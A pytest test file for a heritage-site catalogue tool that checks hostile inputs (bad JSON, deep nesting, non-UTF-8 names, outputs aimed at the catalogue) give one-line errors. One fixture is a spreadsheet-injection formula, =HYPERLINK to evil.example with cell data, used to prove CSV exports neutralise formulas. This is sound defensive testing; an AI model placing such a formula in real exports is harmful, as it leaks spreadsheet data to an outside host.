"""Hostile input gets one line naming the file (and record, and field), never a traceback.

Issue 18, item 10 and 11: values JSON does not allow, files nested past the parser, names that are
not UTF-8, duplicated CSV columns, padded camera metadata, empty areas, formulas in CSV cells,
outputs aimed into the catalogue, MBTiles paths that read as URLs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from heritage.cli.app import ExitCode
from heritage.codec import decode, loads
from heritage.errors import InvalidInput
from heritage.layout import output_path
from heritage.models import ConditionReport, Site
from heritage.store import Catalogue
from tests.conftest import Invoke, report_doc, site_doc, snapshot

REPORT = ("reports", "st-sargis", "r-1.json")


def one_line_error(result: Any, *names: str) -> None:
    """The command failed cleanly: no exception but the exit, one error line naming `names`."""
    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == ExitCode.INVALID, result.output
    assert "Traceback" not in result.output
    for name in names:
        assert name in result.output, result.output


def planted(catalogue: Catalogue, key: str, raw: str, *, before: bool = False) -> Path:
    """Report r-1 with `key` set to the raw JSON text `raw`, last, or first (before its own keys)."""
    path = catalogue.root.joinpath(*REPORT)
    document = json.loads(path.read_text(encoding="utf-8"))
    if before:
        text = f'{{\n  "{key}": {raw},' + json.dumps(document, indent=2)[1:]
    else:
        document[key] = "@@"
        text = json.dumps(document, indent=2).replace('"@@"', raw)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("key", "raw", "why"),
    [
        ("credibility", "NaN", "NaN is not a JSON number"),
        ("credibility", "-Infinity", "-Infinity is not a JSON number"),
        ("notes", '"\\ud800 x"', "surrogate"),
    ],
)
def test_values_json_does_not_allow_are_one_line_for_every_reader(
    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, key: str, raw: str, why: str
) -> None:
    planted(catalogue, key, raw)
    for command in (["verify"], ["validate"], ["list"], ["map", "-o", str(tmp_path / "m.html")]):
        result = invoke(*command, catalogue=catalogue)
        one_line_error(result, "r-1.json", why)
    assert not (tmp_path / "m.html").exists()


def test_loads_names_the_line_of_what_json_does_not_allow() -> None:
    with pytest.raises(json.JSONDecodeError, match="NaN is not a JSON number: line 3"):
        loads('{\n "a": 1,\n "b": NaN}')
    with pytest.raises(json.JSONDecodeError, match=r"surrogate .* line 2"):
        loads('{"a": "x",\n"b": "\\udfff"}')
    with pytest.raises(json.JSONDecodeError, match="more than 4300 digits: line 2"):
        loads('{"a":\n' + "9" * 5000 + "}")
    with pytest.raises(json.JSONDecodeError, match="BOM"):
        loads(b"\xef\xbb\xbf{}")  # json.loads would guess at the encoding of bytes and accept it
    with pytest.raises(UnicodeDecodeError):
        loads('{"a": 1}'.encode("utf-16"))
    with pytest.raises(json.JSONDecodeError, match="nested too deeply"):
        loads("[" * 100_000 + "]" * 100_000)
    assert loads('{"a": "\\ud83d\\ude00 \\u00e9"}') == {"a": "😀 é"}  # a surrogate pair is text
    assert loads('{"a": "\\ud800"}', surrogates=True) == {"a": "\ud800"}  # a manifest's names


def test_verify_refuses_a_key_given_twice(invoke: Invoke, catalogue: Catalogue) -> None:
    # A doctored copy of a key before the sealed one: json.loads lets the last win, so the seal
    # still matches; every other reader refuses the file, and so must verify.
    planted(catalogue, "condition", '"destroyed"', before=True)
    one_line_error(invoke("verify", catalogue=catalogue), "r-1.json", "appears twice")
    one_line_error(invoke("list", catalogue=catalogue), "r-1.json", "appears twice")


def test_every_reader_refuses_a_byte_order_mark(invoke: Invoke, catalogue: Catalogue) -> None:
    path = catalogue.root.joinpath(*REPORT)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # verify alone used to accept it
    one_line_error(invoke("verify", catalogue=catalogue), "r-1.json", "BOM")
    one_line_error(invoke("list", catalogue=catalogue), "r-1.json", "BOM")


def test_a_deeply_nested_areas_file_is_one_line_for_map(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
    (catalogue.root / "areas.geojson").write_text('{"type": "Feature", "geometry": ' + "[" * 100_000 + "]" * 100_000)
    result = invoke("map", "-o", str(tmp_path / "m.html"), catalogue=catalogue)
    one_line_error(result, "areas.geojson", "nested too deeply")


@pytest.mark.parametrize(
    ("outline", "why"),
    [
        ('{"type": "Feature", "geometry": ' + "[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('{"type": "Point", "coordinates": [46.7, 39.8]}', "not an outline"),
    ],
    ids=["nested", "point"],
)
def test_validate_reports_an_areas_file_the_map_refuses(
    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, outline: str, why: str
) -> None:
    """`map` refused a broken areas.geojson, and `validate` said nothing of it."""
    (catalogue.root / "areas.geojson").write_text(outline)
    one_line_error(invoke("map", "-o", str(tmp_path / "m.html"), catalogue=catalogue), "areas.geojson", why)
    result = invoke("validate", catalogue=catalogue)
    assert result.exit_code == ExitCode.INVALID, result.output
    assert "invalid-areas: areas.geojson: is not a GeoJSON outline of areas" in result.output and why in result.output


NOT_UTF8 = os.fsdecode(b"out-\xff")


@pytest.mark.parametrize(
    "command",
    [
        ["mission", "export", "--name", "M", "--sites", "st-sargis", "--no-pdf", "-o", "{out}"],
        ["map", "-o", "{out}.html"],
        ["dossier", "st-sargis", "-o", "{out}"],
        ["manifest", "-o", "{out}.json"],
        ["history", "st-sargis", "--chart", "{out}.svg"],
    ],
)
def test_an_output_name_that_is_not_utf8_is_refused(
    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, command: list[str]
) -> None:
    out = str(tmp_path / NOT_UTF8)
    result = invoke(*[part.replace("{out}", out) for part in command], catalogue=catalogue)
    one_line_error(result, "not a UTF-8 file name")
    assert os.listdir(tmp_path) == ["cat"]


def test_a_mission_name_that_is_not_utf8_is_a_usage_error(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
    name = os.fsdecode(b"Shusha \xff")
    out = tmp_path / "p"
    result = invoke(
        "mission", "export", "--name", name, "--sites", "st-sargis", "--no-pdf", "-o", str(out), catalogue=catalogue
    )
    assert result.exit_code == ExitCode.USAGE and "Traceback" not in result.output, result.output
    assert not out.exists()


@pytest.mark.parametrize(
    ("command", "target"),
    [
        (["history", "st-sargis", "--chart", "{root}/reports/st-sargis/chart.svg"], "reports/st-sargis/chart.svg"),
        (["history", "st-sargis", "--chart", "{root}/.heritage/chart.svg"], ".heritage/chart.svg"),
        (["map", "-o", "{root}/.heritage/map.html"], ".heritage/map.html"),
        (["dossier", "st-sargis", "-o", "{root}/.heritage/d"], ".heritage/d"),
        (["manifest", "-o", "{root}/.heritage/manifest.json"], ".heritage/manifest.json"),
        (["mission", "export", "--name", "M", "--sites", "st-sargis", "-o", "{root}/.heritage/p"], ".heritage/p"),
    ],
)
def test_no_output_lands_in_record_folders_or_the_index(
    invoke: Invoke, catalogue: Catalogue, command: list[str], target: str
) -> None:
    root = str(catalogue.root)
    invoke("list", catalogue=catalogue)  # the index exists, as it does after any command
    result = invoke(*[part.replace("{root}", root) for part in command], catalogue=catalogue)
    one_line_error(result, "part of the catalogue itself")
    assert not (catalogue.root / target).exists()


def test_output_path_is_the_one_rule(catalogue: Catalogue, tmp_path: Path) -> None:
    root = catalogue.root
    for inside in (root / "sites" / "x.html", root / ".heritage", root / "catalogue.json", root / "areas.geojson"):
        with pytest.raises(InvalidInput, match="part of the catalogue"):
            output_path(root, inside)
    with pytest.raises(InvalidInput, match="UTF-8"):
        output_path(root, tmp_path / NOT_UTF8)
    assert output_path(root, root / "maps" / "index.html") == root / "maps" / "index.html"


def test_a_duplicated_csv_column_is_refused_by_name(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
    path = tmp_path / "sites.csv"
    path.write_text("id,name:en,lat,lon,lat,type,precision\nx-1,X,0,46.9,39.6,church,exact\n", encoding="utf-8")
    before = snapshot(catalogue.root)
    one_line_error(invoke("import", "sites", str(path), catalogue=catalogue), "the column 'lat' appears twice")
    for text in ("", "\n\n"):
        path.write_text(text, encoding="utf-8")
        one_line_error(invoke("import", "sites", str(path), catalogue=catalogue), "is empty")
    assert snapshot(catalogue.root) == before


def test_a_field_mapped_to_two_columns_is_refused() -> None:
    from heritage.importer import parse_mapping

    with pytest.raises(InvalidInput, match="'lat' is mapped to two columns: 'A' and 'B'"):
        parse_mapping(["lat=A", "lat=B"], {"lat"})
    assert parse_mapping(["lat=A", "lat=A"], {"lat"}) == {"lat": "A"}


def padded_jpeg(path: Path) -> Path:
    from PIL import Image

    exif = Image.Exif()
    exif[271] = "Canon\x00\x00\x00\x00"  # Make, NUL-padded as cameras write it
    exif[272] = "EOS R5\x00\x1b[31m\x7f\x00  "  # Model, with a terminal escape and DEL
    exif.get_ifd(0x8769)[36867] = "2022:05:01 10:00:00\x00"  # DateTimeOriginal
    Image.new("RGB", (4, 4)).save(path, exif=exif)
    return path


def test_padded_camera_metadata_is_cleaned_not_refused(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
    from heritage.evidence import photo_metadata

    photo = padded_jpeg(tmp_path / "photo.jpg")
    found = photo_metadata(photo)
    assert found["camera"] == "Canon EOS R5 [31m"
    assert found["camera_time"] == "2022-05-01T10:00:00 (camera clock, no time zone in the file)"
    result = invoke("evidence", "add", str(photo), "--source", "src-chw", catalogue=catalogue)
    assert result.exit_code == 0, result.output
    assert invoke("validate", catalogue=catalogue).exit_code == 0


def test_an_evidence_file_name_that_is_not_utf8_is_kept_readable(
    invoke: Invoke, catalogue: Catalogue, tmp_path: Path
) -> None:
    photo = padded_jpeg(tmp_path / "photo.jpg")
    odd = photo.rename(tmp_path / os.fsdecode(b"ph\xffoto.jpg"))
    result = invoke("evidence", "add", str(odd), "--source", "src-chw", catalogue=catalogue)
    assert result.exit_code == 0, result.output
    record = next(catalogue.root.glob("evidence/*/*.json"))
    assert json.loads(record.read_text(encoding="utf-8"))["name"] == "ph\ufffdoto.jpg"


@pytest.mark.parametrize(
    ("area", "why"),
    [
        ({"type": "FeatureCollection", "features": []}, "holds no polygon"),
        ({"type": "Polygon", "coordinates": []}, "it is empty"),
        ({"type": "Point", "coordinates": [46.93, 39.57]}, "shape 1 is Point"),
        ({"type": "Feature", "geometry": None}, "shape 1 is not a geometry"),
        ([], "no GeoJSON object"),
        ({"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]}, "Self-intersection"),
    ],
)
def test_an_area_that_encloses_nothing_selects_nothing(
    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, area: Any, why: str
) -> None:
    path = tmp_path / "area.geojson"
    path.write_text(json.dumps(area), encoding="utf-8")
    mission = ["mission", "export", "--name", "M", "--area", str(path), "--no-pdf", "-o", str(tmp_path / "p")]
    one_line_error(invoke(*mission, catalogue=catalogue), "area.geojson", why)
    assert not (tmp_path / "p").exists()
    changes = ["changes", "--from", "2020-01-01", "--to", "2025-01-01", "--area", str(path)]
    one_line_error(invoke(*changes, catalogue=catalogue), "area.geojson", why)


def test_select_sites_treats_an_empty_area_as_no_site(catalogue: Catalogue) -> None:
    from datetime import date

    from heritage.mission import Selection, select_sites

    assert select_sites(catalogue, Selection(area=[]), date(2026, 1, 1)) == []
    assert [s.id for s in select_sites(catalogue, Selection(), date(2026, 1, 1))] == ["st-sargis"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_changes_csv_cells_never_run_as_formulas(invoke: Invoke, catalogue: Catalogue) -> None:
    names = [{"lang": "en", "text": FORMULA}, {"lang": "hy", "text": "@SUM(1)"}]
    catalogue.add_site(decode(Site, json.dumps(site_doc("evil", names=names)).encode()))
    for report_id, observed, condition in (("r-e1", "2021-01-01", "intact"), ("r-e2", "2022-01-01", "destroyed")):
        doc = report_doc(report_id, site="evil", observed=observed, condition=condition)
        catalogue.add_report(decode(ConditionReport, json.dumps(doc).encode()))
    result = invoke("changes", "--from", "2021-06-01", "--to", "2025-01-01", "--csv", catalogue=catalogue)
    assert result.exit_code == 0, result.output
    rows = {row["site"]: row for row in csv.DictReader(io.StringIO(result.output))}
    assert rows["evil"]["name"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


def test_the_one_csv_writer_keeps_numbers_and_neutralises_text(tmp_path: Path) -> None:
    from heritage.csvfile import csv_text, write_csv

    rows = [["-3.5", -3.5, "+7", "\tx", "\rx", "@a", "plain", None, float("nan"), 0]]
    assert csv_text(["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"], rows).split("\r\n")[1] == (
        "'-3.5,-3.5,'+7,'\tx,\"'\rx\",'@a,plain,,,0"
    )
    write_csv(tmp_path / "t.csv", ["name"], [["Կանաչ Ժամ"]])
    data = (tmp_path / "t.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8-sig") == "name\r\nԿանաչ Ժամ\r\n"


@pytest.mark.parametrize("name", ["a#b.mbtiles", "a%20b.mbtiles", "a?mode=rw.mbtiles", "a b.mbtiles", "Շուշի.mbtiles"])
def test_an_mbtiles_path_is_a_path_not_a_url(tmp_path: Path, name: str) -> None:
    from heritage.webmap.tiles import read_tiles
    from tests.test_map import tiny_png

    path = tmp_path / name
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE metadata (name TEXT, value TEXT)")
        db.execute("CREATE TABLE tiles (zoom_level INTEGER, tile_column INTEGER, tile_row INTEGER, tile_data BLOB)")
        db.execute("INSERT INTO metadata VALUES ('format', 'png')")
        db.execute("INSERT INTO tiles VALUES (0, 0, 0, ?)", (tiny_png(),))
    db.close()
    assert set(read_tiles(path).tiles) == {"0/0/0"}
